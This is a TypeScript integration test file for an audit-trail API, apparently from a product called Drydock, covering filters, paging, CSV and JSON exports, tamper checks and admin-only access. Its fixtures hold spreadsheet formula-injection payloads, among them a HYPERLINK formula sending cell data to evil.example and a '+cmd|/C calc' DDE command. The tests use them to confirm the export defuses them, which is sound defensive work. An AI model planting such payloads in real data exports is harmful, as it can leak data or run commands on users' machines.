import postgres from 'postgres';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { AuditChainReport, AuditPage, AuditRowView } from '@drydock/core';
import { startTestStack, type TestStack } from '../support/stack.ts';

// The audit trail over HTTP, as a team admin reads it: filters, paging, the two exports and the chain check.

let stack: TestStack;
let sql: postgres.Sql;

beforeAll(async () => {
  stack = await startTestStack({ processes: ['api'] });
  sql = postgres(stack.databaseUrl, { max: 2, onnotice: () => {} });
});
afterAll(async () => {
  await sql?.end();
  await stack?.teardown();
});

const HOSTILE = [
  { actor: '=HYPERLINK("http://evil.example/?"&A1,"click")', action: 'host.create', target: '+cmd|/C calc', detail: { note: 'a "quoted", multi\nline note' } },
  { actor: '@SUM(1+1)', action: 'lock.acquire', target: 'host:local', detail: { reason: '-2+3' } },
  { actor: 'ops@example.com', action: 'lock.release', target: 'host:local', detail: null },
  { actor: 'ops@example.com', action: 'lock_other', target: 'host:db1', detail: null },
];

async function page(query: string): Promise<AuditPage> {
  const res = await stack.api(`/api/v1/audit${query}`);
  expect(res.status, await res.clone().text()).toBe(200);
  return (await res.json()) as AuditPage;
}

/** RFC 4180, the way a spreadsheet reads it: quoted fields may hold commas, quotes (doubled) and line breaks. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted && ch === '"' && text[i + 1] === '"') {
      field += '"';
      i++;
    } else if (quoted && ch === '"') {
      quoted = false;
    } else if (quoted) {
      field += ch;
    } else if (ch === '"') {
      quoted = true;
    } else if (ch === ',') {
      record.push(field);
      field = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i++;
    } else {
      field += ch;
    }
  }
  return records;
}

describe('the audit trail over HTTP', () => {
  let requestId: string;
  /** The first admin's own steps (the setup, their API token): the oldest rows of the team's trail. */
  let firstSteps: AuditRowView[];
  beforeAll(async () => {
    firstSteps = (await page('?limit=100')).rows;
    // A real mutating call, refused for its body: still audited, under its request id.
    const res = await stack.api('/api/v1/runs', { method: 'POST', json: { hostId: 'local' } });
    expect(res.status).toBe(400);
    requestId = res.headers.get('x-request-id')!;
    for (const row of HOSTILE) {
      await sql`insert into audit_log (team_id, actor_name, action, resource, result, detail, ip)
        values ('default', ${row.actor}, ${row.action}, ${row.target}, 200, ${row.detail === null ? null : sql.json(row.detail)}, '192.0.2.1')`;
    }
    await sql`insert into audit_log (team_id, actor_name, action, resource, result) values ('other-team', 'stranger@example.com', 'host.create', 'host:secret-host', 201)`;
  });

  test('a mutating call leaves a row with who, what, from where and its request id', async () => {
    const { rows } = await page(`?action=${encodeURIComponent('POST /api/v1/runs')}`);
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({ teamId: 'default', action: 'POST /api/v1/runs', result: 400, requestId, actor: { name: stack.admin.email } });
    expect(rows[0]?.sourceIp).toMatch(/127\.0\.0\.1|::1/);
  });

  test("pages by cursor through the team's rows, newest first, each once, and never another team's", async () => {
    const seen: AuditRowView[] = [];
    let cursor: string | null = '';
    while (cursor !== null) {
      const next: AuditPage = await page(`?limit=2${cursor ? `&cursor=${cursor}` : ''}`);
      seen.push(...next.rows);
      cursor = next.nextCursor;
    }
    expect(seen.map((r) => r.actor.name)).toEqual(['ops@example.com', 'ops@example.com', '@SUM(1+1)', HOSTILE[0]!.actor, stack.admin.email, ...firstSteps.map((r) => r.actor.name)]);
    expect(seen.map((r) => Number(r.id))).toEqual(seen.map((r) => Number(r.id)).sort((a, b) => b - a));
    expect(JSON.stringify(seen)).not.toContain('secret-host');
  });

  test('filters by actor, action prefix, target and time', async () => {
    expect((await page('?actor=ops@example.com')).rows.map((r) => r.action)).toEqual(['lock_other', 'lock.release']);
    // `lock.*` is a prefix taken literally: `lock_other` does not match it through LIKE's `_`.
    expect((await page(`?action=${encodeURIComponent('lock.*')}`)).rows.map((r) => r.action)).toEqual(['lock.release', 'lock.acquire']);
    expect((await page('?target=host:local')).rows).toHaveLength(2);
    expect((await page('?from=2000-01-01T00:00:00Z&to=2000-01-02T00:00:00Z')).rows).toEqual([]);
    expect((await page(`?from=${encodeURIComponent(new Date(Date.now() - 3_600_000).toISOString())}`)).rows).toHaveLength(5 + firstSteps.length);
  });

  test('bad filters get a 400 that says what to fix', async () => {
    const badCursor = await stack.api('/api/v1/audit?cursor=abc');
    expect(badCursor.status).toBe(400);
    expect(await badCursor.json()).toMatchObject({ error: { fields: { cursor: ['send the nextCursor of the previous page, unchanged'] } } });
    const badTime = await stack.api('/api/v1/audit?from=yesterday');
    expect(badTime.status).toBe(400);
    expect(Object.keys(((await badTime.json()) as { error: { fields: object } }).error.fields)).toEqual(['from']);
  });

  test('the CSV export is RFC 4180 and a spreadsheet shows formulas as text', async () => {
    const res = await stack.api('/api/v1/audit/export.csv');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="drydock-audit-.*\.csv"$/);
    const text = await res.text();
    expect(text.endsWith('\r\n')).toBe(true);
    const [header, ...records] = parseCsv(text);
    expect(header).toEqual(['id', 'seq', 'at', 'team', 'actor_id', 'actor', 'action', 'target', 'result', 'source_ip', 'user_agent', 'request_id', 'detail', 'hash']);
    expect(records).toHaveLength(5 + firstSteps.length);
    const column = (name: string) => records.map((r) => r[header!.indexOf(name)]);
    expect(column('actor')).toContain(`'${HOSTILE[0]!.actor}`);
    expect(column('actor')).toContain("'@SUM(1+1)");
    expect(column('target')).toContain("'+cmd|/C calc");
    expect(column('detail')).toContain(JSON.stringify(HOSTILE[0]!.detail));
    for (const record of records) {
      for (const cell of record) expect(cell, 'no cell a spreadsheet would run').not.toMatch(/^[=+\-@\t\r]/);
    }
    expect(text).not.toContain('secret-host');
  });

  test('the JSON export is the same rows the list shows, filtered the same way', async () => {
    const res = await stack.api(`/api/v1/audit/export.json?target=host:local`);
    expect(res.headers.get('content-type')).toBe('application/json; charset=utf-8');
    const exported = (await res.json()) as AuditRowView[];
    expect(exported).toEqual((await page('?target=host:local')).rows);
  });

  test('the chain check says the chain holds, and names a row changed behind its back', async () => {
    const ok = (await (await stack.api('/api/v1/audit/verify')).json()) as AuditChainReport;
    const rows = 5 + firstSteps.length;
    expect(ok).toMatchObject({ ok: true, teams: [{ teamId: 'default', rows, head: { seq: rows }, firstBreak: null }] });

    const [target] = await sql<{ id: string }[]>`select id::text from audit_log where actor_name = '@SUM(1+1)'`;
    await sql.begin(async (tx) => {
      await tx`set local session_replication_role = replica`;
      await tx`update audit_log set result = 403 where id = ${target!.id}`;
    });
    const broken = (await (await stack.api('/api/v1/audit/verify')).json()) as AuditChainReport;
    expect(broken.ok).toBe(false);
    expect(broken.teams[0]?.firstBreak).toMatchObject({ kind: 'changed', rowId: target!.id, seq: firstSteps.length + 3 });
  });
});

describe('who may read the audit trail', () => {
  const tokenOf = async (role: string, scopes: string[]) => {
    const account = await stack.api('/api/v1/service-accounts', { method: 'POST', json: { name: `audit-${role}-${scopes.join('-')}`, role } });
    expect(account.status, await account.clone().text()).toBe(201);
    const { id } = (await account.json()) as { id: string };
    const token = await stack.api(`/api/v1/service-accounts/${id}/tokens`, { method: 'POST', json: { name: 'audit test', scopes } });
    expect(token.status).toBe(201);
    return ((await token.json()) as { token: string }).token;
  };

  test("a team's admins only; a viewer or an operator gets a 403 that says what is needed, and no row", async () => {
    for (const role of ['viewer', 'operator', 'maintainer']) {
      const token = await tokenOf(role, ['read']);
      for (const path of ['/api/v1/audit', '/api/v1/audit/export.csv', '/api/v1/audit/export.json', '/api/v1/audit/verify']) {
        const res = await stack.api(path, { headers: { authorization: `Bearer ${token}` } });
        expect(res.status, `${role} ${path}`).toBe(403);
        const text = await res.text();
        expect(JSON.parse(text)).toMatchObject({ error: { message: expect.stringContaining('this needs the admin role in team default') } });
        expect(text).not.toContain('ops@example.com');
      }
    }
    const admin = await tokenOf('admin', ['read']);
    const res = await stack.api('/api/v1/audit?limit=1', { headers: { authorization: `Bearer ${admin}` } });
    expect(res.status).toBe(200);
    // Creating those accounts was audited, under the person who did it.
    expect(((await res.json()) as AuditPage).rows[0]).toMatchObject({ action: expect.stringMatching(/token|service/), actor: { name: stack.admin.email } });
  });
});
